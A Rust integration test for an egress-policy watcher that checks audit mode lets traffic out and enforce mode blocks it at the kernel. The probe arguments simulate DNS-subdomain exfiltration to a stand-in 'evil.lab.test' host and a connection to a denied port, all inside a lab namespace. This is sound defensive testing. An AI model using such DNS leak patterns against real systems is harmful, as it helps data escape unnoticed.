//! Enforce and audit against real hosts in a network namespace the test creates: a DNS server
//! and TCP listeners that record everything they receive, reached over a veth pair.
use std::{
    io::Read as _,
    process::{Child, Command, Stdio},
    time::Duration,
};

use watcher_tests::{Netns, netprobe_bin, read_jsonl, root_or_skip, wait_until, watcher_bin};

/// A process inside the namespace, killed on drop.
struct Remote(Child);

impl Drop for Remote {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

const RECORDER: &str = r#"
import socket, sys, threading
port, path = int(sys.argv[1]), sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", port)); s.listen(16)
open(path + ".ready", "w").close()
while True:
    c, a = s.accept()
    c.settimeout(1)
    data = b""
    try:
        while True:
            d = c.recv(4096)
            if not d: break
            data += d
    except Exception: pass
    with open(path, "ab") as f: f.write(b"CONN %d\n" % len(data))
    c.close()
"#;

fn start_lab(ns: &Netns, dir: &std::path::Path) -> (Remote, Remote, Remote) {
    let ip = ns.ns_v4().to_string();
    let testdns = watcher_bin().with_file_name("testdns");
    let dns = Remote(
        ns.exec_in(&testdns)
            .args([ip.as_str(), &format!("ok.lab.test={ip}")])
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(dir.join("dns.log")).unwrap())
            .spawn()
            .unwrap(),
    );
    let rec = |port: &str| {
        let path = dir.join(format!("conn-{port}"));
        let child = ns.exec_in("python3").args(["-c", RECORDER, port]).arg(&path).spawn().unwrap();
        assert!(
            wait_until(Duration::from_secs(10), || path.with_extension("ready").exists()),
            "recorder {port} did not start"
        );
        Remote(child)
    };
    let a = rec("8080");
    let b = rec("9090");
    assert!(
        wait_until(Duration::from_secs(10), || read(&dir.join("dns.log")).contains("testdns: serving")),
        "testdns did not start: {}",
        read(&dir.join("dns.log"))
    );
    (dns, a, b)
}

fn read(path: &std::path::Path) -> String {
    let mut s = String::new();
    if let Ok(mut f) = std::fs::File::open(path) {
        let _ = f.read_to_string(&mut s);
    }
    s
}

fn run(mode: &str, ns: &Netns, dir: &std::path::Path) -> (Option<i32>, Vec<serde_json::Value>, String) {
    let ip = ns.ns_v4().to_string();
    let policy = dir.join(format!("{mode}.yaml"));
    std::fs::write(
        &policy,
        format!(
            "version: 1\npipeline: lab\nmode: {mode}\negress:\n  loopback: false\n  allow:\n    - host: ok.lab.test\n      ports: [8080]\ndns:\n  resolvers: [{ip}]\n"
        ),
    )
    .unwrap();
    let log = dir.join(format!("{mode}.jsonl"));
    let p = netprobe_bin();
    let out = Command::new(watcher_bin())
        .args(["run", "--quiet", "--policy"])
        .arg(&policy)
        .arg("--log")
        .arg(&log)
        .arg("--")
        .arg(&p)
        .args(["dns-sendto", &ip, "ok.lab.test", "A", "tcp", &format!("{ip}:8080"), "tcp", &format!("{ip}:9090")])
        .args(["dns-sendto", &ip, "leak-4b4559.evil.lab.test", "A", "dns-tcp", &ip, "leak-tcp.evil.lab.test", "A"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (out.status.code(), read_jsonl(&log), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn audit_lets_traffic_reach_the_remote_hosts_and_enforce_stops_it_in_the_kernel() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(77).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let _lab = start_lab(&ns, dir.path());

    let (code, events, err) = run("audit", &ns, dir.path());
    assert_eq!(code, Some(0), "{err}");
    assert!(wait_until(Duration::from_secs(5), || read(&dir.path().join("conn-9090")).contains("CONN")), "{err}");
    // testdns writes what it received every 100 ms: wait for the last query, not a fixed time.
    let dns_log = || read(&dir.path().join("dns.log"));
    assert!(
        wait_until(Duration::from_secs(5), || dns_log().contains("leak-tcp.evil.lab.test")),
        "audit lets the queries out: {}",
        dns_log()
    );
    assert!(dns_log().contains("leak-4b4559.evil.lab.test"), "audit lets the query out: {}", dns_log());
    assert!(events.iter().any(|e| e["kind"] == "alert" && e["rule"] == "egress-denied" && e["action"] == "flag"));

    // Enforce: clear the recorders' logs and run again.
    for f in ["conn-8080", "conn-9090", "dns.log"] {
        let _ = std::fs::write(dir.path().join(f), "");
    }
    let (code, events, err) = run("enforce", &ns, dir.path());
    assert_eq!(code, Some(77), "{err}");
    // The allowed query and connection come first; once both are recorded, give anything denied
    // that leaked ten of testdns's 100 ms polls to show up too.
    assert!(
        wait_until(Duration::from_secs(5), || read(&dir.path().join("conn-8080")).contains("CONN 6")
            && dns_log().contains("ok.lab.test")),
        "the allowed host got its request: {err}"
    );
    std::thread::sleep(Duration::from_millis(1000));
    assert_eq!(read(&dir.path().join("conn-9090")), "", "a denied port was reached");
    let dns_log = dns_log();
    assert!(!dns_log.contains("evil"), "a denied query reached the DNS server: {dns_log}");
    for rule in ["egress-denied", "dns-denied"] {
        assert!(
            events.iter().any(|e| e["kind"] == "alert" && e["rule"] == rule && e["action"] == "deny"),
            "{rule}: {err}"
        );
    }
}
